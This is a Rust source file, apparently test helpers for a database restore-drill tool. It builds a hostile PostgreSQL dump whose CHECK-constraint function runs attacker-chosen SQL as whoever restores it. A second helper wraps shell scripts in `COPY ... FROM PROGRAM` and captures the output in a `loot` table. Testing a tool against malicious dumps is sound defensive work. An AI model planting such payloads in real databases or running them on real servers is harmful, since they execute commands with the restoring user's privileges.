//! A database that attacks whoever restores it: its rows call a function when they are loaded.

/// What an attacker puts into a database: a table `bait` whose rows call his function, and a table
/// `loot` for what he finds. `act` runs in a throw-away server alone, which has no autovacuum.
#[must_use]
pub fn bait(act: &str) -> String {
    format!(
        "CREATE ROLE mallory LOGIN;
         CREATE TABLE loot (said text);
         CREATE FUNCTION evil(n int) RETURNS boolean LANGUAGE plpgsql AS $evil$
         BEGIN
             IF current_setting('autovacuum') = 'off' AND n = 1 THEN {act} END IF;
             RETURN true;
         END $evil$;
         CREATE TABLE bait (n int CHECK (public.evil(n)));
         GRANT INSERT ON bait TO mallory;
         SET ROLE mallory;
         INSERT INTO bait SELECT generate_series(1, 3);"
    )
}

/// A statement that runs a shell script, whose output lines become rows of `loot`.
#[must_use]
pub fn program(script: &str) -> String {
    format!("EXECUTE $run$COPY public.loot (said) FROM PROGRAM $script${script}$script$ (DELIMITER E'\\x01')$run$;")
}

/// A drill that shows what is in `loot`, as the detail of a failed check.
pub const SHOW_LOOT: &str = "level = \"checked\"\n\
    queries = [{ database = \"shop\", sql = \"SELECT string_agg(said, ' ~ ') FROM public.loot\", expect = \"nothing\" }]";

/// What stands in `loot`, out of the report of such a drill.
///
/// # Panics
/// The query did not run.
#[must_use]
pub fn found(report: &serde_json::Value) -> String {
    let checks = report["checks"].as_array().into_iter().flatten();
    let mut shown = checks.filter(|check| check["check"].as_str().is_some_and(|check| check.contains("loot")));
    let detail = shown.next().and_then(|check| check["detail"].as_str());
    detail.unwrap_or_else(|| panic!("the query did not run: {report:#}")).to_owned()
}
